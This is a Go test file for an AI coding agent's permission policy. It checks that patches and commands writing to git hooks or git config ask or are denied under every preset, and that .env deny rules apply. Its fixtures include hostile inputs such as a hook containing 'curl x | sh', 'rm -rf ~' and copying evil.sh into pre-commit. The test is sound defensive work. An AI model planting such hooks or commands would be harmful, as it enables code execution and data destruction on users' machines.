package policy

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/reinharness/rein/tool"
	"github.com/reinharness/rein/tools/fs"
)

// specPatchPaths is apply_patch as the coding toolset declares it: its
// paths are inside the patch text.
var specPatchPaths = tool.Spec{Name: "apply_patch", Effects: tool.Effects{ReadsFiles: true, WritesFiles: true, Paths: fs.PatchPaths}}

func patchCall(patch string) Call {
	return Call{ID: "c1", Spec: specPatchPaths, Args: mustJSON(map[string]string{"patch": patch})}
}

const (
	patchMain  = "--- a/main.go\n+++ b/main.go\n@@ -1 +1 @@\n-a\n+b\n"
	patchHook  = "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n"
	patchEnv   = "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-A=1\n+A=2\n"
	patchGitCf = "--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-[core]\n+[core] hooksPath = x\n"
)

// TestDeclaredPathsMeetPathRules checks that the paths apply_patch
// declares are decided by path rules like write_file's path argument.
func TestDeclaredPathsMeetPathRules(t *testing.T) {
	denyEnv := &Config{Paths: []PathRule{{Pattern: "**/.env", Action: "deny"}}}
	tests := []struct {
		name    string
		preset  Preset
		project *Config
		call    Call
		want    Action
		reason  string
	}{
		{"plain edit under editor", PresetEditor, nil, patchCall(patchMain), Allow, ""},
		{"plain edit under read-only", PresetReadOnly, nil, patchCall(patchMain), Deny, "read-only"},
		{"project deny on a patched file", PresetFull, denyEnv, patchCall(patchMain + patchEnv), Deny, ".env"},
		{"project deny on the second file only", PresetEditor, denyEnv, patchCall(patchEnv), Deny, ".env"},
		{"unparsable patch asks", PresetEditor, nil, patchCall("not a patch"), Ask, "cannot tell which files"},
		{"unparsable patch under full still asks", PresetFull, nil, patchCall("--- a/x\n"), Ask, "cannot tell which files"},
		{"unparsable patch under read-only is denied", PresetReadOnly, nil, patchCall("junk"), Deny, "read-only"},
		{"arguments not an object ask", PresetEditor, nil, Call{ID: "c1", Spec: specPatchPaths, Args: json.RawMessage(`[1]`)}, Ask, "cannot tell which files"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := newEngine(t, tt.preset, nil, tt.project, nil).Decide(context.Background(), tt.call)
			if d.Action != tt.want || !strings.Contains(d.Reason, tt.reason) {
				t.Errorf("Decide = %v %q (rule %s), want %v with %q", d.Action, d.Reason, d.Rule, tt.want, tt.reason)
			}
		})
	}
}

// TestDeclaredPathsFailClosed covers extractors that fail or panic.
func TestDeclaredPathsFailClosed(t *testing.T) {
	failing := tool.Spec{Name: "x_patch", Effects: tool.Effects{WritesFiles: true, Paths: func(json.RawMessage) ([]string, error) {
		return nil, errors.New("bad input\nsecond line")
	}}}
	panicking := tool.Spec{Name: "y_patch", Effects: tool.Effects{WritesFiles: true, Paths: func(json.RawMessage) ([]string, error) {
		panic("boom")
	}}}
	e := newEngine(t, PresetFull, nil, nil, nil)
	for _, spec := range []tool.Spec{failing, panicking} {
		d := e.Decide(context.Background(), Call{ID: "c1", Spec: spec, Args: json.RawMessage(`{}`)})
		if d.Action != Ask || d.Rule != "analysis:paths" || strings.Contains(d.Reason, "\n") {
			t.Errorf("%s: Decide = %v %q (rule %s), want a one-line Ask by analysis:paths", spec.Name, d.Action, d.Reason, d.Rule)
		}
	}
}

// TestGitControlPathsAskUnderEveryPreset checks the built-in rule: writes
// to git hooks and git's config ask (or are denied) under every preset,
// whatever the tool and whatever a user's allow rules say; reads do not.
func TestGitControlPathsAskUnderEveryPreset(t *testing.T) {
	userAllows := &Config{
		Tools: []ToolRule{{Name: "write_file", Action: "allow"}, {Name: "apply_patch", Action: "allow"}},
		Paths: []PathRule{{Pattern: ".git/**", Action: "allow"}},
	}
	writes := []Call{
		pathCall(specWriteFile, ".git/hooks/pre-commit"),
		pathCall(specWriteFile, "./.git/hooks/../hooks/post-checkout"),
		pathCall(specWriteFile, testWorkspace+"/.git/config"),
		pathCall(specEditFile, ".git/config"),
		pathCall(specWriteFile, "vendor/lib/.git/hooks/pre-push"),
		patchCall(patchMain + patchHook),
		patchCall(patchGitCf),
		runCall("echo 'rm -rf ~' > .git/hooks/pre-commit"),
		runCall("cp evil.sh .git/hooks/pre-commit"),
		runCall("cat extra >> .git/config"),
	}
	for _, preset := range allPresets {
		for _, user := range []*Config{nil, userAllows} {
			e := newEngine(t, preset, user, nil, nil)
			for _, c := range writes {
				d := e.Decide(context.Background(), c)
				if d.Action == Allow {
					t.Errorf("%s (user rules %v): %s %s allowed (%s), want ask or deny", preset, user != nil, c.Spec.Name, c.Args, d.Reason)
				}
			}
		}
	}
	e := newEngine(t, PresetEditor, nil, nil, nil)
	for _, c := range []Call{
		pathCall(specReadFile, ".git/config"),
		pathCall(specGrep, ".git/hooks"),
		pathCall(specWriteFile, "src/.gitconfig"),
		pathCall(specWriteFile, "docs/git/hooks.md"),
	} {
		if d := e.Decide(context.Background(), c); d.Action != Allow {
			t.Errorf("%s %s = %v (%s), want allow", c.Spec.Name, c.Args, d.Action, d.Reason)
		}
	}
	d := e.Decide(context.Background(), pathCall(specWriteFile, ".git/hooks/pre-commit"))
	if d.Action != Ask || !strings.Contains(d.Reason, "git hooks") || !strings.HasPrefix(d.Rule, "rule:builtin:ask path") {
		t.Errorf("write_file .git/hooks/pre-commit = %v %q (rule %s), want the built-in ask", d.Action, d.Reason, d.Rule)
	}
}

// TestDestructiveHintOnlyTightensExternalTools: rein's own file and
// command tools carry destructiveHint for MCP clients, but the preset
// decides them from their Effects (editor allows edits); an external
// tool's destructive hint still asks under every preset.
func TestDestructiveHintOnlyTightensExternalTools(t *testing.T) {
	yes := true
	own := specEditFile
	own.Annotations.DestructiveHint = &yes
	run := specRun
	run.Annotations.DestructiveHint = &yes
	tests := []struct {
		preset Preset
		call   Call
		want   Action
	}{
		{PresetEditor, pathCall(own, "main.go"), Allow},
		{PresetFull, pathCall(own, "main.go"), Allow},
		{PresetReadOnly, pathCall(own, "main.go"), Deny},
		{PresetFull, Call{ID: "c1", Spec: run, Args: mustJSON(map[string]string{"command": "go test ./..."})}, Allow},
		{PresetEditor, Call{ID: "c1", Spec: run, Args: mustJSON(map[string]string{"command": "go test ./..."})}, Ask},
		{PresetFull, Call{ID: "c1", Spec: specMCPDestructive(), Args: json.RawMessage(`{}`)}, Ask},
	}
	for _, tt := range tests {
		d := newEngine(t, tt.preset, nil, nil, nil).Decide(context.Background(), tt.call)
		if d.Action != tt.want {
			t.Errorf("%s %s: %v (%s), want %v", tt.preset, tt.call.Spec.Name, d.Action, d.Reason, tt.want)
		}
	}
}

// TestProtectedNamesIsACopy: an importer changing the returned list
// changes neither the next caller's list nor the rules the engine builds.
func TestProtectedNamesIsACopy(t *testing.T) {
	got := ProtectedNames()
	if !slices.Contains(got, ".rein") {
		t.Fatalf("ProtectedNames() = %q, want .rein among them", got)
	}
	before := len(ProtectedPaths())
	got[0] = "nothing-to-protect"
	if again := ProtectedNames(); again[0] == "nothing-to-protect" || len(ProtectedPaths()) != before {
		t.Errorf("writing to ProtectedNames()'s result changed the list: %q", again)
	}
	rules := ProtectedPaths()
	if !slices.ContainsFunc(rules, func(r PathRule) bool { return r.Pattern == ".rein" }) {
		t.Errorf("ProtectedPaths lost .rein after a caller wrote to ProtectedNames()'s result")
	}
}
